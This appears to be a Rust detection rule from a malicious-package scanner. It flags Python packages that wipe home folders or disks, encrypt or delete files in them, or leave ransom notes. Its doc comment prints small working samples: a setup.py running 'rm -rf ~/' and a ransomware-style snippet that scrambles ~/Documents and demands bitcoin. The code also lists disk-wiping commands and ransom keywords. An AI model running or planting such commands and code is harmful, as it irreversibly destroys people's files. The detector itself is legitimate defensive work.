//! ## What it detects
//!
//! Commands or calls that delete a home folder or a whole disk, or encrypt what is in it; files that are changed beside a note that says whom to pay.
//!
//! ## Why it is bad
//!
//! It cannot be undone.
//!
//! ## Innocent lookalikes
//!
//! Clean-up of temporary and build folders.
//!
//! ## Bad
//!
//! ```python setup.py
//! import os
//! os.system('rm -rf ~/')
//! ```
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import os
//! NOTE = "All your files are encrypted. Send 1 bitcoin to us if you want them back."
//! for folder, _, names in os.walk(os.path.expanduser('~/Documents')):
//!     for name in names:
//!         path = os.path.join(folder, name)
//!         data = open(path, 'rb').read()
//!         open(path + '.locked', 'wb').write(bytes(b ^ 7 for b in data))
//!         os.remove(path)
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import os
//! os.system('rm -rf build')
//! ```

use fondaco_python::{Api, Call, Unit, Value};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use super::archived_home::{walks, walks_home};
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("destruction"),
    title: "destroys files",
    severity: Severity::Critical,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Impact),
    weight: 1.6,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    const COMMANDS: [&str; 7] =
        ["rm -rf /*", "rm -rf ~", "rm -rf / ", "rm -rf --no-preserve-root", "del /f /s /q c:", "format c:", "rd /s /q c:"];
    for (unit, call) in package.calls().filter(|(_, call)| call.api == Some(Api::FileDelete)) {
        let is_home = call.args.first().is_some_and(|folder| folder.texts().iter().all(|text| is_root(text)) && !folder.texts().is_empty());
        if is_home && call.trigger.is_some_and(Trigger::is_unasked) {
            hits.call(unit, call, "deletes a home folder or a disk");
        }
    }
    let unasked = |call: &&Call| call.trigger.is_some_and(Trigger::is_unasked);
    let changes = |call: &Call| matches!(call.api, Some(Api::FileWrite | Api::FileDelete)) && unasked(&call);
    let changing = || package.units().filter(|unit| unit.calls.iter().any(changes));
    for unit in changing().filter(|unit| walks_home(unit)) {
        let overwrites = |call: &&Call| call.api == Some(Api::FileWrite) && call.args.first().is_some_and(is_noise);
        for call in unit.calls.iter().filter(unasked).filter(overwrites) {
            hits.call(unit, call, "overwrites the files of a home folder");
        }
        for call in unit.calls.iter().filter(unasked).filter(|call| deletes_found(call)) {
            hits.call(unit, call, "deletes what it finds in a home folder");
        }
    }
    for unit in changing().filter(|unit| unit.text.contains(".encrypt(") && walks_home(unit)) {
        let unasked = |api: Api| {
            unit.calls.iter().find(|c| c.api == Some(api) && c.trigger.is_some_and(Trigger::is_unasked))
        };
        let renames = ["os.rename(", "os.replace("].iter().any(|call| unit.text.contains(call));
        match (unasked(Api::FileDelete), unasked(Api::FileWrite)) {
            (Some(call), Some(_)) => hits.call(unit, call, "encrypts the files of a home folder and deletes them"),
            (None, Some(call)) if renames => hits.call(unit, call, "encrypts the files of a home folder and renames them"),
            _ => {}
        }
    }
    for unit in package.units() {
        let changed = unit.calls.iter().find(|call| matches!(call.api, Some(Api::FileWrite | Api::FileDelete)));
        if let Some(call) = changed.filter(|_| leaves_note(unit)) {
            hits.call(unit, call, "changes files, and tells whom to pay for them");
        }
    }
    for (unit, call) in package.calls().filter(|(_, call)| call.api == Some(Api::Shell)) {
        let ends = |text: &str| text.trim_end() == "rm -rf /";
        if call.texts().iter().any(|text| ends(text) || COMMANDS.iter().any(|command| text.to_lowercase().contains(command))) {
            hits.call(unit, call, "deletes a home folder or a disk");
        }
    }
}

/// Whether code has a note for somebody whose files it takes away, and walks through folders.
fn leaves_note(unit: &Unit) -> bool {
    const TAKEN: [&str; 4] = ["encrypted", "locked", "verschl", "cifrado"];
    const PAID: [&str; 6] = ["bitcoin", "btc", "monero", "ethereum", "ransom", "wallet"];
    let is_note = |text: &str| {
        let text = text.to_ascii_lowercase();
        let has = |words: &[&str]| words.iter().any(|word| text.contains(word));
        text.len() >= 40 && text.contains(' ') && has(&TAKEN) && has(&PAID) && (text.contains("your ") || text.contains("you "))
    };
    walks(unit) && unit.text.split(['"', '\'']).any(is_note)
}

/// Bytes that mean nothing.
fn is_noise(data: &Value) -> bool {
    let is_random = |name: &str| matches!(name, "os.urandom()" | "secrets.token_bytes()" | "random.randbytes()");
    data.name.as_deref().is_some_and(is_random)
}

/// Whether a path is deleted that a walk through a whole home folder gives.
fn deletes_found(call: &Call) -> bool {
    let found = |name: &str| name.starts_with("pathlib.Path.home().rglob()");
    call.api == Some(Api::FileDelete)
        && (found(&call.callee) || call.args.first().and_then(|path| path.name.as_deref()).is_some_and(found))
}

/// A home folder, what people keep in it, or a whole disk.
fn is_root(text: &str) -> bool {
    let folder = text.trim_end_matches(['/', '\\']);
    let is_disk = folder.is_empty() && !text.is_empty();
    is_disk || matches!(folder, "~" | "$HOME" | "%USERPROFILE%" | "C:" | "/home" | "/Users" | "/etc" | "~/Documents" | "~/Desktop")
}
